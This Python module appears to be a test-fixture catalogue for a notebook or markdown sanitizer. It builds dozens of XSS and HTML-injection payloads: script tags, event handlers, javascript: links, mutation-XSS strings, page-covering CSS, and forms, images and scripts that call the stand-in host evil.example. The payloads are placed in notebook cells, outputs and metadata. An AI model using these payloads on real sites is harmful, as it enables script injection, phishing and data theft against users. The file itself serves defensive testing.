"""HTML, markdown and notebooks that would run, load or cover something in a page."""

from __future__ import annotations

import base64
from collections.abc import Callable
from functools import partial
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAAFklEQVR42mNkaGAgCTCRpnxUw6iGIaoBAEDWAKHk"
    "yUvrAAAAAElFTkSuQmCC"
)
RUN = "document.title='owned'"
HTML = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT >",
    "script inside script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script from outside": "<script src=//evil.example/x.js></script>",
    "script not closed": f"<script>{RUN}",
    "module": f'<script type="module">{RUN}</script>',
    "MathJax configuration": f'<script type="text/x-mathjax-config">{RUN}</script>',
    "image handler": f'<img src=x onerror="{RUN}">',
    "image handler, odd spacing": f"<img/src=x/onerror\n=\n{RUN}//>",
    "handler without quotes": f"<img src=x onerror={RUN}>",
    "handler after a broken quote": f'<img src="x"" onerror="{RUN}">',
    "body handler": f'<body onload="{RUN}">',
    "details handler": f'<details open ontoggle="{RUN}">x</details>',
    "input handler": f'<input autofocus onfocus="{RUN}">',
    "video handler": f'<video src=x onerror="{RUN}"></video>',
    "audio source": f'<audio><source src=x onerror="{RUN}"></audio>',
    "animation handler": f'<p style="animation:x 1s" onanimationstart="{RUN}">x</p>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "mouse handler": f'<b onmouseover="{RUN}">x</b>',
    "javascript link": f'<a href="javascript:{RUN}">x</a>',
    "javascript link with a tab": f'<a href="java\tscript:{RUN}">x</a>',
    "javascript link in entities": f'<a href="&#106;avascript&colon;{RUN}">x</a>',
    "javascript link in capitals": f'<a href=" JaVaScRiPt:{RUN}">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "data image link": '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
    "file link": '<a href="file:///etc/passwd">x</a>',
    "link to a submitted file": '<a href="evil.html">x</a>',
    "link to the same host": '<a href="//evil.example">x</a><a href="/logout">x</a>',
    "ping": '<a href="https://ok.example" ping="https://evil.example">x</a>',
    "image that calls home": '<img src="https://evil.example/x.png" srcset="//evil.example/y 2x">',
    "image of the server": '<img src="/logout"><img src="../../api/shutdown">',
    "image of text": f'<img src="data:text/html,<script>{RUN}</script>">',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe with a script": f'<iframe srcdoc="<script>top.{RUN}</script>"></iframe>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "object": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "embed": '<embed src="data:image/svg+xml;base64,PHN2Zy8+">',
    "applet": '<applet code="x"></applet>',
    "form": '<form action="https://evil.example"><input name=p><button>OK</button></form>',
    "button": f'<button formaction="javascript:{RUN}">x</button>',
    "textarea": f'<textarea id="why-comment">x</textarea><script>{RUN}</script>',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "import": '<link rel="import" href="https://evil.example"><link rel=prefetch href=//evil>',
    "style that loads": "<style>@import url(//evil.example/x.css);</style>",
    "style that covers": "<style>body{display:none}</style>",
    "attribute that loads": '<p style="background:url(https://evil.example/x)">x</p>',
    "attribute that covers": '<p style="position:fixed;inset:0;z-index:9;margin:-9em">x</p>',
    "class that covers": '<div class="navbar-fixed-top modal">x</div>',
    "names of the page": '<a id="statusmessage" name="top" data-link="x" data-toggle="y">x</a>',
    "end of the page": f"</div></div></div></body></html><script>{RUN}</script>",
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    "svg link": f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    "svg animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg with a page": f'<svg><foreignObject><body onload="{RUN}"></foreignObject></svg>',
    "svg not closed": f"<svg><script>{RUN}</script>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "math": f"<math><mtext><script>{RUN}</script></mtext></math>",
    "math link": f'<math href="javascript:{RUN}">x</math>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img src=x onerror="{RUN}">',
    "mutation in noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation in a title": f'<title><p id="</title><img src=x onerror={RUN}>">',
    "mutation in a form": "<form><math><mtext></form><form><mglyph><style></math><img onerror=x>",
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "comment of old browsers": f"<!--[if true]><script>{RUN}</script><![endif]-->",
    "template": f"<template><script>{RUN}</script></template>",
    "shadow": f'<div><template shadowrootmode="open"><img src=x onerror="{RUN}"></template></div>',
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "instruction": f"<?xml-stylesheet href='javascript:{RUN}'?>",
    "bytes": f"<img src=x\x00 onerror\x00={RUN}><\x00script>{RUN}</script>",
    "dialog": f'<dialog open>x</dialog><div popover onbeforetoggle="{RUN}">x</div>',
    "custom element": f'<x-y onclick="{RUN}" tabindex=0 autofocus onfocus="{RUN}">x</x-y>',
    "very deep": "<b><i>" * 3000 + f"<script>{RUN}</script>",
}
MARKDOWN = {
    "link": f"[x](javascript:{RUN})",
    "link in angles": f"[x](<javascript:{RUN}>) <javascript:{RUN}>",
    "link by reference": f"[x][y]\n\n[y]: javascript:{RUN}",
    "link in entities": "[x](&#x6A;avascript&colon;alert(1))",
    "link with a title": f'[x](https://ok.example "\\" onmouseover=\\"{RUN}")',
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "image": "![x](https://evil.example/x.png) ![x](javascript:alert(1)) ![x](/etc/passwd)",
    "image text": f'![" onerror="{RUN}](x)',
    "language of code": f'```"><script>{RUN}</script>\nx\n```',
    "language of code 2": f"```python onload={RUN}><img src=x onerror={RUN}>\nx\n```",
    "formula": f"$\\href{{javascript:{RUN}}}{{x}}$ $$x<img src=x onerror={RUN}>$$",
    "formula, nested": f"\\\\(<script>{RUN}</script>\\\\) $`<script>{RUN}</script>`$",
    "formula environment": f"\\begin{{x}}<script>{RUN}</script>\\end{{x}}",
    "heading": f'# <img src=x onerror="{RUN}"> "onclick="{RUN}',
    "table": f"|a|\n|-|\n|<script>{RUN}</script>|",
    "attachment": "![x](attachment:a.png) ![y](attachment:b.html)",
    "footnote": f"[^1]\n\n[^1]: <script>{RUN}</script>",
    "very deep": "> " * 3000 + f"<script>{RUN}</script>",
    "many brackets": "[" * 3000 + f"<script>{RUN}</script>",
}


def raw_cell(**values: Any) -> NotebookNode:
    """A cell as it may stand in a file, valid or not."""
    cell = new_code_cell("x = 1")
    cell.update(values)
    return cell


def shows(kind: str, value: Any, **more: Any) -> NotebookNode:
    return raw_cell(outputs=[new_output("display_data", {kind: value}, **more)])


def meta(**values: Any) -> NotebookNode:
    return NotebookNode(values)


SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
QUOTE = f'"><script>{RUN}</script>'
WIDGET = "application/vnd.jupyter.widget-view+json"
NOTEBOOKS: dict[str, Callable[[], NotebookNode]] = {
    "javascript output": lambda: new_notebook(cells=[shows("application/javascript", RUN)]),
    "text/javascript output": lambda: new_notebook(cells=[shows("text/javascript", RUN)]),
    "svg output": lambda: new_notebook(cells=[shows("image/svg+xml", SVG)]),
    "svg output that ends early": lambda: new_notebook(
        cells=[shows("image/svg+xml", f'"><script>{RUN}</script>')]
    ),
    "latex output": lambda: new_notebook(
        cells=[shows("text/latex", f"$\\href{{javascript:{RUN}}}{{x}}$<script>{RUN}</script>")]
    ),
    "mermaid output": lambda: new_notebook(
        cells=[shows("text/vnd.mermaid", f"graph LR;<script>{RUN}</script>")]
    ),
    "plain text": lambda: new_notebook(cells=[shows("text/plain", f"<script>{RUN}</script>")]),
    "widget": lambda: new_notebook(
        cells=[shows(WIDGET, {"model_id": f"</script><script>{RUN}</script>"})],
        metadata={
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": QUOTE}}}
        },
    ),
    "isolated output": lambda: new_notebook(
        cells=[
            shows("text/html", HTML["script"], metadata={"text/html": meta(isolated=True)}),
        ]
    ),
    "stream": lambda: new_notebook(
        cells=[raw_cell(outputs=[new_output("stream", text=f"\x1b[31m<script>{RUN}</script>")])]
    ),
    "stream's name": lambda: new_notebook(
        cells=[raw_cell(outputs=[NotebookNode(output_type="stream", name=QUOTE, text=QUOTE)])]
    ),
    "traceback": lambda: new_notebook(
        cells=[
            raw_cell(outputs=[new_output("error", ename=QUOTE, evalue=QUOTE, traceback=[QUOTE])])
        ]
    ),
    "png": lambda: new_notebook(cells=[shows("image/png", f'AAAA" onerror="{RUN}')]),
    "size of a png": lambda: new_notebook(
        cells=[
            shows("image/png", PNG, metadata={"image/png": meta(width=f"1 onload={RUN}")}),
        ]
    ),
    "file of a png": lambda: new_notebook(
        cells=[shows("image/png", PNG, metadata={"filenames": meta(**{"image/png": "//evil/x"})})]
    ),
    "tags": lambda: new_notebook(cells=[raw_cell(metadata=meta(tags=[QUOTE]))]),
    "title": lambda: new_notebook(cells=[raw_cell()], metadata={"title": QUOTE}),
    "language": lambda: new_notebook(
        cells=[raw_cell()], metadata={"language_info": {"name": QUOTE, "pygments_lexer": QUOTE}}
    ),
    "magic's language": lambda: new_notebook(
        cells=[raw_cell(metadata=meta(magics_language=QUOTE))], metadata={"x": 1}
    ),
    "name of a grade cell": lambda: new_notebook(
        cells=[raw_cell(metadata=meta(nbgrader=meta(grade_id=QUOTE, solution=True, comment=QUOTE)))]
    ),
    "comment": lambda: new_notebook(
        cells=[raw_cell(metadata=meta(nbgrader=meta(grade_id="x", solution=True, comment=QUOTE)))]
    ),
    "raw cell": lambda: new_notebook(
        cells=[new_raw_cell(HTML["script"], metadata={"raw_mimetype": "text/html"})]
    ),
    "attachment": lambda: new_notebook(
        cells=[
            new_markdown_cell(
                "![x](attachment:a) ![y](attachment:b)",
                attachments={
                    "a": {"text/html": base64.b64encode(HTML["script"].encode()).decode()},
                    "b": {"image/png": f'"onerror="{RUN}'},
                },
            )
        ]
    ),
}


def ended(notebook: NotebookNode) -> NotebookNode:
    notebook.cells.append(new_markdown_cell("the end of the page"))
    return notebook


def carriers(text: str) -> NotebookNode:
    """A notebook that holds some HTML or markdown wherever one can."""
    return new_notebook(
        cells=[
            new_markdown_cell(text),
            shows("text/html", text),
            shows("text/markdown", text),
            shows("text/html", text.splitlines(keepends=True)),
            raw_cell(
                outputs=[new_output("execute_result", {"text/html": text, "text/plain": "x"})]
            ),
        ]
    )


PAYLOADS: dict[str, Callable[[], NotebookNode]] = {
    **{f"html: {name}": partial(carriers, text) for name, text in HTML.items()},
    **{f"markdown: {name}": partial(carriers, text) for name, text in MARKDOWN.items()},
    **{f"notebook: {name}": make for name, make in NOTEBOOKS.items()},
}
